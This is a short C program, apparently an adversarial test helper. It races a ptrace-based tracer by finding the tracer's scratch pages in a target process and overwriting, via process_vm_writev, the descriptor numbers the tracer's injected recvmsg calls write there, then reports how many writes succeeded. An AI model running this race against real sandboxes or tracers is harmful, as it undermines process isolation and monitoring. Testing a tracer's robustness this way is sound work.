// SPDX-License-Identifier: MIT
// rewriter PID attacks the tracer of a process. The tracer injects system calls, which
// write descriptor numbers to a page of the process. The rewriter overwrites these
// numbers. Prints "ready". On SIGTERM, prints how many times it wrote, and exits.
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/uio.h>
#include <unistd.h>

enum { max_pages = 64, page = 4096, rounds_between_looks = 200 };
enum { at_numbers = 104 }; // recvmsg(2) writes to this offset in the agent's struct Scratch

static volatile sig_atomic_t stop;
static unsigned long pages[max_pages];
static int n_pages;

static void end(int number)
{
    (void)number;
    stop = 1;
}

// Adds each anonymous, writable mapping of one page to `pages`.
static void look(const char *pid)
{
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%s/maps", pid);
    FILE *maps = fopen(path, "r");
    while (maps != NULL && fgets(line, sizeof line, maps) != NULL) {
        unsigned long first = 0, last = 0;
        char kind[8] = "";
        unsigned long inode = 1;
        int at = 0, known = 0;
        if (sscanf(line, "%lx-%lx %7s %*s %*s %lu %n", &first, &last, kind, &inode,
                   &at) < 4 ||
            last - first != page || strcmp(kind, "rw-p") != 0 || inode != 0 ||
            (line[at] != '\0' && line[at] != '\n'))
            continue;
        for (int i = 0; i < n_pages; ++i)
            known |= pages[i] == first;
        if (!known && n_pages < max_pages)
            pages[n_pages++] = first;
    }
    if (maps != NULL)
        fclose(maps);
}

int main(int argc, char **argv)
{
    static int numbers[3] = {0, 1, 2};
    long n_written = 0;
    if (argc < 2)
        return 1;
    pid_t pid = atoi(argv[1]);
    signal(SIGTERM, end);
    look(argv[1]);
    int n_own = n_pages; // pages that the process itself mapped; never overwritten
    printf("ready\n");
    fflush(stdout);
    for (long round = 0; !stop; ++round) {
        if (n_pages == n_own || round % rounds_between_looks == 0)
            look(argv[1]);
        for (int i = n_own; i < n_pages; ++i) {
            struct iovec from[2] = {{numbers, 8}, {numbers, 12}};
            struct iovec to[2] = {{(void *)pages[i], 8},
                                  {(void *)(pages[i] + at_numbers), 12}};
            n_written += process_vm_writev(pid, from, 2, to, 2, 0) > 0;
        }
    }
    printf("wrote %ld\n", n_written);
    return 0;
}
